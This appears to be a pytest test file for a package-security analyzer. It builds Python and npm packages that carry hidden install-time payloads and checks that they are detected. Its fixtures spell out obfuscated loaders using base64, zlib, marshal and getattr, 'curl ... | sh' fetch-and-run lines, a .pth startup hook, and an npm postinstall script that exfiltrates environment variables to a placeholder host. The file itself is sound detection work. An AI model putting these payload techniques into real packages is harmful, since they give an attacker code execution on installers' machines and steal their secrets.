"""Package-level analysis: install-time reasoning across files, layers, verdicts, contexts."""

from __future__ import annotations

import base64
import marshal
import zlib

import pytest

from outwork.analyzers.packages import PackageAnalyzer
from outwork.analyzers.packages.analysis import setup_identity
from outwork.analyzers.packages.package import analyze_files, read_archive
from outwork.core.analyzer import AnalysisContext, Component
from outwork.core.artifact import Artifact, classify
from outwork.core.findings import Fact, Finding
from outwork.core.rules import Severity
from tests.analyzers.packages.helpers import npm_tarball, sdist, wheel

SETUP_IMPORTING = "from setuptools import setup\nimport helper\nsetup(name='demo')\n"
PAYLOAD = "import os\nos.system('echo outwork-test | sh')\n"


def run(name: str, data: bytes) -> list[object]:
    artifact = Artifact(
        path=name, kind=classify(data[:8192], name, len(data)), size=len(data), data=data
    )
    analyzer = PackageAnalyzer()
    assert analyzer.accepts(artifact)
    return list(analyzer.analyze(artifact, AnalysisContext()))


def findings(items: list[object]) -> list[Finding]:
    return [i for i in items if isinstance(i, Finding)]


def verdict(items: list[object]) -> Finding | None:
    return next((f for f in findings(items) if f.code == "PKG020"), None)


def test_payload_moved_into_imported_module_is_install_time() -> None:
    items = run(
        "demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": SETUP_IMPORTING, "helper.py": PAYLOAD})
    )
    hits = [f for f in findings(items) if f.code == "PKG001"]
    assert hits and hits[0].location.path == "demo-1.0/helper.py"
    assert hits[0].severity is Severity.CRITICAL
    assert hits[0].properties["context"] == "install"
    v = verdict(items)
    assert v is not None and v.severity is Severity.CRITICAL
    facts = [i for i in items if isinstance(i, Fact)]
    assert any(
        f.relation == "executes-at-install" and f.target == "jewel:host-code-execution"
        for f in facts
    )
    assert any(
        f.source == "entry:public-registry" and f.target == "pkg:pypi/demo@1.0" for f in facts
    )


def test_nested_layers_are_decoded_and_analysed_again() -> None:
    inner = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()
    middle = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{inner}')))\n"
    outer = base64.b64encode(middle.encode()).decode()
    setup = f"import base64\nexec(base64.b64decode('{outer}'))\n"
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
    codes = {f.code for f in findings(items)}
    assert {"PKG001", "PKG004"} <= codes
    command = next(f for f in findings(items) if f.code == "PKG001")
    assert "layer 2" in command.evidence and command.location.line == 2


def test_marshal_payload_is_read_never_loaded() -> None:
    code = marshal.dumps(compile(PAYLOAD, "<x>", "exec"))
    blob = base64.b64encode(code).decode()
    setup = f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{blob}')))\n"
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
    hit = next(f for f in findings(items) if f.code == "PKG004")
    assert "system" in hit.evidence and hit.severity is Severity.CRITICAL


def _marshalled_setup(source: str) -> str:
    blob = base64.b64encode(marshal.dumps(compile(source, "<x>", "exec"))).decode()
    return f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{blob}')))\n"


def test_marshalled_code_reaching_an_address_is_network_use() -> None:
    # a network client among the code object's names and an address among its constants
    source = (
        "import urllib.request\n"
        "def fetch():\n"
        "    return urllib.request.urlopen('https://pastebin.com/raw/abc').read()\n"
        "fetch()\n"
    )
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": _marshalled_setup(source)}))
    hit = next(f for f in findings(items) if f.code == "PKG007")
    assert "pastebin.com" in hit.evidence and hit.severity >= Severity.HIGH
    # the twin: an address among the constants, no network client among the names
    quiet = "print('see https://pastebin.com/raw/abc for the docs')\n"
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": _marshalled_setup(quiet)}))
    assert not any(f.code == "PKG007" for f in findings(items))


def test_source_carried_by_marshalled_code_is_analysed() -> None:
    # code kept as a string constant, written to a file and started: analysed as a layer
    carried = "from urllib.request import urlopen;exec(urlopen('https://x.invalid/p').read())"
    source = (
        "import os, sys, tempfile\n"
        f"CODE = {carried!r}\n"
        "path = tempfile.mktemp(suffix='.py')\n"
        "open(path, 'w').write(CODE)\n"
        "os.system(sys.executable + ' ' + path)\n"
    )
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": _marshalled_setup(source)}))
    assert any(f.code == "PKG003" and f.severity >= Severity.HIGH for f in findings(items))


def test_base64_source_inside_marshalled_code_is_analysed() -> None:
    inner = "exec(__import__('urllib.request').request.urlopen('https://x.invalid/p').read())"
    encoded = base64.b64encode(inner.encode()).decode()
    source = f"import base64\nPAYLOAD = {encoded!r}\nexec(base64.b64decode(PAYLOAD))\n"
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": _marshalled_setup(source)}))
    assert any(f.code == "PKG003" and f.severity >= Severity.HIGH for f in findings(items))


def test_builtins_getattr_indirection_resolves() -> None:
    setup = (
        "name = ''.join(map(chr, [115, 121, 115, 116, 101, 109]))\n"
        "getattr(__import__('o' + 's'), name)('curl https://x.invalid/a | sh')\n"
    )
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
    assert any(f.code == "PKG001" and f.location.line == 2 for f in findings(items))


def test_pth_in_wheel_runs_at_every_start() -> None:
    pth = "import os; os.system('curl -s https://x.invalid/p | sh')\n"
    items = run(
        "demo-1.0-py3-none-any.whl", wheel("demo", "1.0", {"demo.pth": pth, "demo/__init__.py": ""})
    )
    assert any(f.code == "PKG001" and f.location.path == "demo.pth" for f in findings(items))


def test_clean_package_scores_zero_and_gets_a_component() -> None:
    lib = "import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd)\n"
    items = run(
        "demo-1.0.tar.gz",
        sdist(
            "demo",
            "1.0",
            {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": lib},
        ),
    )
    assert verdict(items) is None
    component = next(i for i in items if isinstance(i, Component))
    assert component.purl == "pkg:pypi/demo@1.0" and component.properties["outwork:risk-score"] == 0


def test_tests_folder_lowers_weight_but_never_hides() -> None:
    setup = "from setuptools import setup\nsetup()\n"
    items = run(
        "demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup, "tests/test_x.py": PAYLOAD})
    )
    hit = next(f for f in findings(items) if f.code == "PKG001")
    assert hit.severity is Severity.MEDIUM and "tests" in hit.message


def test_install_time_code_in_a_tests_folder_is_not_lowered() -> None:
    setup = "from setuptools import setup\nimport tests.helper\nsetup()\n"
    files = {"setup.py": setup, "tests/__init__.py": "", "tests/helper.py": PAYLOAD}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    hit = next(f for f in findings(items) if f.code == "PKG001")
    assert hit.severity is Severity.CRITICAL and hit.location.path == "demo-1.0/tests/helper.py"


def test_npm_postinstall_runs_a_file_that_exfiltrates() -> None:
    manifest = (
        '{"name": "demo-npm", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}'
    )
    js = "const h=require('https');h.get('https://c.invalid/?e='+JSON.stringify(process.env));"
    items = run("demo-npm-1.0.0.tgz", npm_tarball(manifest, {"setup.js": js}))
    hit = next(f for f in findings(items) if f.code == "PKG015")
    assert hit.severity is Severity.CRITICAL and hit.location.path == "package/setup.js"
    v = verdict(items)
    assert v is not None and v.subject == "pkg:npm/demo-npm@1.0.0"


def test_minified_javascript_is_parsed() -> None:
    manifest = '{"name": "demo-min", "version": "1.0.0", "main": "index.js"}'
    js = (
        "var a=require('child_process'),b='ZWNobyBvdXR3b3JrLXRlc3QgfCBzaA==';"
        "a.execSync(Buffer.from(b,'base64').toString());"
    )
    items = run("demo-min-1.0.0.tgz", npm_tarball(manifest, {"index.js": js}))
    assert any(f.code == "PKG015" and f.severity is Severity.CRITICAL for f in findings(items))


def test_hostile_archive_finishes() -> None:
    data = sdist(
        "demo", "1.0", {"setup.py": "(" * 100_000 + ")" * 100_000, "x.py": "x" * 5_000_000}
    )
    items = run("demo-1.0.tar.gz", data)
    assert any(f.code in ("PKG013", "PKG012") for f in findings(items))
    assert run("junk.tar.gz", b"\x1f\x8b" + b"\x00" * 100) == []


def test_script_started_by_setup_is_install_time() -> None:
    setup = (
        "import subprocess, sys\nfrom setuptools import setup\n"
        "subprocess.check_call([sys.executable, 'tools/post.py'])\n"
        "subprocess.call(['sh', 'tools/post.sh'])\nsetup()\n"
    )
    files = {
        "setup.py": setup,
        "tools/post.py": (
            "import os\nif __name__ == '__main__':\n"
            "    os.system('curl https://x.invalid/a | sh')\n"
        ),
        "tools/post.sh": "#!/bin/sh\nwget https://x.invalid/b -O- | sh\n",
    }
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    where = {(f.location.path, f.location.line) for f in findings(items) if f.code == "PKG001"}
    assert ("demo-1.0/tools/post.py", 3) in where
    assert ("demo-1.0/tools/post.sh", 2) in where


def test_python2_install_code_is_still_analysed() -> None:
    setup = 'import os\nprint "installing"\nos.system("curl https://x.invalid/a | sh")\n'
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
    assert any(f.code == "PKG001" and f.location.line == 3 for f in findings(items))


def test_manifests_nested_past_the_parser_depth_hide_nothing() -> None:
    """A pyproject.toml or package.json nested deeper than Python's parsers go must not end the
    package's analysis: the install code next to it is still judged."""
    deep_toml = "x = " + "[" * 20_000 + "]" * 20_000 + "\n"
    setup = "import os\nos.system('curl https://example.org/x.sh | sh')\n"
    files = read_archive(
        sdist("deep", "1.0", {"pyproject.toml": deep_toml, "setup.py": setup}), "deep-1.0.tar.gz"
    )
    assert files is not None
    verdict = analyze_files(files)
    assert verdict.severity is not None and verdict.severity.label == "critical"

    deep_json = '{"name": "deep", "version": "1.0.0", "x": ' + "[" * 20_000 + "]" * 20_000 + "}"
    index = "require('child_process').exec('curl https://example.org/x.sh | sh')\n"
    found = read_archive(npm_tarball(deep_json, {"index.js": index}), "deep-1.0.0.tgz")
    assert found is not None
    signals = analyze_files(found).signals
    assert any("does not parse" in s.message for s in signals)
    assert any("index.js" in s.path for s in signals)


SETUP_LITERAL = 'from setuptools import setup\nsetup(name="demo-pkg", version="1.0")\n'
SETUP_COMPUTED_VERSION = "import setuptools\nsetuptools.setup(name='demo', version=VERSION)\n"
SETUP_KWARGS = "from setuptools import setup\nsetup(**kwargs)\n"


@pytest.mark.parametrize(
    ("source", "folder", "expected"),
    [
        (
            'from setuptools import setup\nsetup(name="demo-pkg", version="1.0")\n',
            "x",
            ("demo-pkg", "1.0"),
        ),
        (
            "import setuptools\nsetuptools.setup(name='demo', version=VERSION)\n",
            "demo-2.1",
            ("demo", "2.1"),
        ),
        (
            "from setuptools import setup\nsetup(**kwargs)\n",
            "outwork-example-1.0",
            ("outwork-example", "1.0"),
        ),
        ("from setuptools import setup\nsetup(**kwargs)\n", "checkout", ("checkout", "")),
        ("this is ( not python", "tool-3.2.1", ("tool", "3.2.1")),
    ],
)
def test_a_loose_setup_py_names_its_project_and_version(
    source: str, folder: str, expected: tuple[str, str]
) -> None:
    """The purl of a loose setup.py's verdict (and of the attack paths through it) names the
    project and version, not ``pkg:pypi/outwork-example-1.0`` from the folder's name."""
    assert setup_identity(source, folder) == expected
